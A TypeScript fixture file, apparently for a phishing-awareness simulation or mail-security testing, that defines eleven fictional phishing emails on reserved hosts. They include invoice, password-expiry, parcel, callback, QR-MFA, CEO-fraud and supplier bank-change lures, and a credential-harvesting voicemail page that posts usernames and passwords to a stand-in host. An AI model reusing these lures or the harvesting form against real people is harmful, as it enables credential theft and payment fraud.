/** Phishing in English: eight campaigns and three aimed letters. All hosts are reserved names. */
import { britons, department, everyone, partOf } from '../audience.ts';
import type { Brand, Letter, Origin } from '../letter.ts';
import { qrCode } from '../pictures.ts';

const rented: Origin = {
  host: 'vps-1182.cheap-hosting.example',
  ip: '203.0.113.71',
  spf: 'pass',
  dkim: 'none',
  dmarc: 'bestguesspass',
  country: 'NL',
};
const microsoft: Brand = {
  name: 'Microsoft 365',
  colour: '#0f6cbd',
  footer: 'Microsoft Corporation, One Microsoft Way, Redmond, WA 98052. This is a mandatory service communication.',
};

const voicemailPage = `<!doctype html><html><head><title>Voice Message</title></head><body style="font-family:Segoe UI,sans-serif;background:#f3f2f1">
<div style="max-width:380px;margin:60px auto;background:#fff;padding:32px"><h2>Sign in to listen</h2><p>For your security, confirm your e-mail password to play this message.</p>
<form method="post" action="https://voice-msg.secure-portal.test/collect.php"><input name="user" placeholder="someone@example.org" style="width:100%"><input name="pass" type="password" placeholder="Password" style="width:100%;margin-top:12px"><button style="margin-top:16px;background:#0067b8;color:#fff;border:0;padding:8px 24px">Sign in</button></form></div>
<script>document.forms[0].user.value=decodeURIComponent(location.hash.slice(1));</script></body></html>`;

export const phishEnglish: readonly Letter[] = [
  {
    name: 'invoice-lure',
    from: 'Northgate Supplies Accounts <billing@northgate-supp1ies.example>',
    to: partOf(
      everyone,
      14,
      'invoice-lure',
      'ana.marsh',
      'grace.liddell',
      'benedikt.vogel',
      'invoices',
      'noah.fielding',
    ),
    shownTo: 'undisclosed-recipients:;',
    subject: 'Overdue: invoice INV-20418 - final notice before suspension',
    origin: { ...rented, host: 'mail.northgate-supp1ies.example', dkim: 'pass', dmarc: 'pass' },
    hoursAgo: 1.1,
    read: 0.4,
    importance: 'high',
    brand: {
      name: 'Northgate Supplies',
      colour: '#7a1f2b',
      footer: 'Northgate Supplies Ltd, Accounts Receivable. Please do not reply to this automated notice.',
    },
    body: [
      { heading: 'Your account is 14 days overdue' },
      'Dear customer,',
      'Our records show that invoice **INV-20418** is still unpaid. To avoid suspension of your account and a late fee of 12 %, please review and settle it **today**.',
      {
        rows: [
          ['Invoice', 'INV-20418'],
          ['Amount due', '€ 4,862.90'],
          ['Due date', 'Passed'],
          ['Reference', 'LH/0417'],
        ],
      },
      { button: 'Review invoice', href: 'https://northgate-invoices.test/view?doc=INV-20418&session=expired' },
      'You will be asked to sign in with your Microsoft account to open the secure document.',
      {
        small:
          'If the button does not work: [https://portal.northgate-supplies.example/invoices](https://northgate-invoices.test/view?doc=INV-20418)',
      },
    ],
  },
  {
    name: 'password-expiry',
    from: 'Microsoft 365 Admin <no-reply@micros0ft-login.example>',
    to: partOf(britons, 9, 'password-expiry', 'hannah.price', 'daniel.okafor', 'liam.doherty'),
    subject: 'Action required: your password expires in 24 hours',
    origin: {
      ...rented,
      ip: '203.0.113.88',
      host: 'smtp7.micros0ft-login.example',
      envelopeFrom: 'bounce@bulk-sender.test',
      spf: 'softfail',
      dmarc: 'fail',
      dmarcAction: 'none',
    },
    hoursAgo: 2.4,
    read: 0.35,
    brand: microsoft,
    body: [
      { heading: 'Your password is about to expire' },
      'The password for your Lindenhof Instruments account expires **within 24 hours**. After that you will lose access to mail, Teams and files.',
      {
        button: 'Keep current password',
        href: 'https://login.micros0ft-login.example/common/oauth2?keep=1&hint=staff',
      },
      'No action means your mailbox will be locked and pending messages will be deleted.',
      { small: 'You receive this message because you are a user of Microsoft 365. Reference 0x8004-5512.' },
    ],
  },
  {
    name: 'parcel-hold',
    from: 'DHL Express <tracking@dhl-parcel-status.test>',
    to: partOf(everyone, 11, 'parcel-hold', 'uwe.krause', 'miriam.engel', 'isaac.bloom', 'zoe.carter'),
    subject: 'Your parcel JD0146 0021 is on hold: address confirmation needed',
    origin: {
      ...rented,
      ip: '198.51.100.201',
      host: 'out3.dhl-parcel-status.test',
      dkim: 'pass',
      dmarc: 'none',
      country: 'RU',
    },
    hoursAgo: 5.2,
    brand: { name: 'DHL', colour: '#ffcc00', ink: '#d40511', footer: 'DHL International GmbH. All rights reserved.' },
    body: [
      { heading: 'We could not deliver your parcel' },
      'Your parcel arrived at our depot, but the house number is missing. Confirm your address and pay the redelivery fee of **€ 1.95** within 12 hours, or it will be returned to the sender.',
      {
        rows: [
          ['Tracking number', 'JD0146 0021 7755'],
          ['Status', 'On hold'],
          ['Depot', 'Leipzig'],
        ],
      },
      { button: 'Confirm delivery', href: 'https://dhl-redelivery.parcel-status.test/pay?t=JD014600217755' },
      { small: 'View your shipment at [www.dhl.example/track](https://dhl-redelivery.parcel-status.test/pay)' },
    ],
  },
  {
    name: 'callback-renewal',
    from: 'Norton LifeLock Billing <orders4471@mailbox.example.net>',
    to: partOf(britons, 6, 'callback', 'tom.whitfield', 'chloe.bennett', 'arthur.quill'),
    shownTo: 'undisclosed-recipients:;',
    subject: 'Order confirmation NLX-88213: $499.99 charged today',
    origin: {
      host: 'mx-out.mailbox.example.net',
      ip: '198.51.100.33',
      spf: 'pass',
      dkim: 'pass',
      dmarc: 'pass',
      country: 'US',
    },
    hoursAgo: 20,
    textOnly: true,
    body: [
      'Dear customer,',
      'Thank you for renewing NORTON 360 DELUXE for 3 years. Your account will be debited automatically today.',
      {
        rows: [
          ['Order', 'NLX-88213'],
          ['Product', 'Norton 360 Deluxe, 5 devices'],
          ['Amount', '$499.99'],
          ['Payment', 'Auto debit'],
        ],
      },
      'If you did not authorise this charge, call our billing desk within 24 hours to cancel and get a full refund:\n+1 (555) 0138-442  (toll free, 24/7)',
      'Please do not reply to this e-mail. Refunds are handled over the phone only.',
      'Billing Department\nNorton LifeLock',
    ],
  },
  {
    name: 'voicemail-attachment',
    from: 'Voice Portal <voicemail@pbx-notify.test>',
    to: partOf(everyone, 7, 'voicemail', 'priya.nair', 'marco.bellini', 'dirk.neumann'),
    subject: 'New voice message from +44 20 7946 0991 (00:47)',
    origin: { ...rented, ip: '203.0.113.19', host: 'pbx-notify.test', spf: 'fail', dmarc: 'fail' },
    hoursAgo: 27,
    body: [
      'You have 1 new voice message.',
      {
        rows: [
          ['Caller', '+44 20 7946 0991'],
          ['Duration', '00:47'],
          ['Mailbox', 'Main line'],
        ],
      },
      'Open the attached file to listen. The message is deleted after 48 hours.',
    ],
    attachments: [{ name: 'VoiceMessage_0047.htm', type: 'text/html', content: Buffer.from(voicemailPage) }],
  },
  {
    name: 'mfa-qr',
    from: 'IT Security <security@lindenhof-id.test>',
    to: partOf(everyone, 8, 'mfa-qr', 'rosa.delgado', 'yusuf.kaya', 'sophie.ahrens'),
    subject: 'Mandatory: renew your multi-factor registration by Friday',
    origin: { ...rented, ip: '203.0.113.140', host: 'lindenhof-id.test', dkim: 'pass', dmarc: 'pass' },
    hoursAgo: 8.5,
    importance: 'high',
    brand: {
      name: 'Lindenhof IT Security',
      colour: '#1d3a5f',
      footer: 'Lindenhof Instruments IT Security. Confidential.',
    },
    body: [
      { heading: 'Your MFA registration expires' },
      'As part of our security upgrade every employee must renew the multi-factor registration. Scan the code with the camera of your **phone** and sign in with your company account.',
      { picture: 'mfa-code', alt: 'QR code: scan with your phone' },
      'Accounts that are not renewed by Friday 17:00 are disabled.',
    ],
    attachments: [{ name: 'mfa.png', type: 'image/png', content: qrCode, contentId: 'mfa-code' }],
  },
  {
    name: 'sharepoint-salary',
    from: 'Ruth Ainsley via SharePoint <share@sharepoint-docs.test>',
    to: partOf(everyone, 6, 'sharepoint-salary', 'mei.tanaka', 'nils.petersen', 'wiebke.jansen'),
    subject: 'Ruth Ainsley shared "Salary_Review_Q4.xlsx" with you',
    origin: { ...rented, ip: '198.51.100.77', host: 'share.sharepoint-docs.test', dmarc: 'none' },
    hoursAgo: 3.6,
    read: 0.3,
    brand: {
      name: 'SharePoint',
      colour: '#036c70',
      footer: 'Microsoft respects your privacy. This e-mail was generated by SharePoint.',
    },
    body: [
      { heading: 'Ruth Ainsley shared a file with you' },
      'Here is the document that Ruth Ainsley shared with you: **Salary_Review_Q4.xlsx**. This link works for you only.',
      { button: 'Open', href: 'https://lindenhof-my.sharepoint-docs.test/:x:/g/personal/signin?return=salary' },
    ],
  },
  {
    name: 'borrowed-id-lure',
    // The Message-ID of calibration-portal (transactions.ts), which is a good mail in some of the same mailboxes.
    messageId: '<20261118.portal-release@calibration-portal.example>',
    from: 'Calibration Portal <service@ca1ibration-portal.test>',
    to: ['karl.metzger', 'petra.schulte', 'rosa.delgado', 'hannah.price', 'katrin.adler'],
    subject: 'Calibration Portal: your certificates will be deleted',
    origin: { ...rented, ip: '203.0.113.52', host: 'ca1ibration-portal.test', dmarc: 'none' },
    hoursAgo: 0.8,
    read: 0,
    brand: { name: 'Calibration Portal', colour: '#2f5d50', footer: 'Calibration Portal customer service' },
    body: [
      { heading: 'Your storage is full' },
      '41 calibration certificates will be **deleted tonight** because your storage quota is exceeded. Sign in and confirm your account to keep them.',
      { button: 'Keep my certificates', href: 'https://ca1ibration-portal.test/session/confirm?a=41' },
    ],
  },
  {
    name: 'ceo-fraud',
    from: 'Margarethe Lindenhof <m.lindenhof.ceo@executive-mail.example>',
    replyTo: 'Margarethe Lindenhof <private.office@executive-mail.example>',
    to: ['ana.marsh', 'tom.whitfield', 'claudia.reuter'],
    subject: 'Quick task - confidential',
    origin: {
      host: 'mta4.executive-mail.example',
      ip: '198.51.100.143',
      spf: 'pass',
      dkim: 'pass',
      dmarc: 'pass',
      mailer: 'iPhone Mail (22B91)',
    },
    hoursAgo: 4,
    textOnly: true,
    body: [
      'Hi,',
      'Are you at your desk? I am in a board meeting and cannot take calls. I need you to prepare a same-day payment of EUR 38,450 to a new supplier, this has to stay between us until the deal is announced.',
      'Send me the cut-off time and I will forward the bank details.',
      'Margarethe\nSent from my iPhone',
    ],
  },
  {
    name: 'supplier-bank-change',
    from: 'Elena Marchetti <e.marchetti@officine-vetro.example>',
    replyTo: 'Elena Marchetti <e.marchetti@officine-vetr0.test>',
    to: ['ana.marsh', 'invoices'],
    shownTo: 'Ana Marsh <ana.marsh@example.org>, Invoices <invoices@example.org>',
    subject: 'RE: PO 7731 lens blanks - updated bank details',
    origin: {
      host: 'smtp.officine-vetro.example',
      ip: '198.51.100.18',
      spf: 'pass',
      dkim: 'pass',
      dmarc: 'pass',
      country: 'IT',
    },
    hoursAgo: 6.3,
    body: [
      'Hello Ana,',
      'Please note that due to a tax audit our account at the previous bank is blocked. Kindly use the new details below for PO 7731 and all open invoices, and confirm by return once the transfer of € 21,300 is done.',
      {
        rows: [
          ['Beneficiary', 'Officine Vetro S.r.l.'],
          ['IBAN', 'LT00 0000 0000 0000 0000'],
          ['BIC', 'XXXXLT00'],
        ],
      },
      'Apologies for the inconvenience,\nElena',
      {
        quote:
          'From: Ana Marsh\nSubject: RE: PO 7731 lens blanks\n\nThank you Elena, the blanks arrived in good order. Payment follows on the 25th as agreed.',
      },
    ],
  },
  {
    name: 'scan-malware',
    from: 'Copier 3rd floor <scanner@example.org>',
    to: partOf(department('Sales', 'Engineering'), 4, 'scan', 'felix.baumann'),
    subject: 'Scanned document from Copier 3rd floor',
    origin: {
      ...rented,
      ip: '203.0.113.9',
      host: 'host-9.adsl.example.net',
      spf: 'fail',
      dmarc: 'fail',
      dmarcAction: 'oreject',
    },
    hoursAgo: 31,
    body: [
      'Please find the scanned document attached.',
      {
        rows: [
          ['Pages', '2'],
          ['Resolution', '300 dpi'],
          ['Device', 'Copier 3rd floor'],
        ],
      },
    ],
    attachments: [
      {
        name: 'Scan_0021.pdf.js',
        type: 'application/octet-stream',
        content: Buffer.from(
          '// A harmless stand-in for a script dropper.\nvar shell = null; /* new ActiveXObject("WScript.Shell") */\n',
        ),
      },
    ],
  },
];
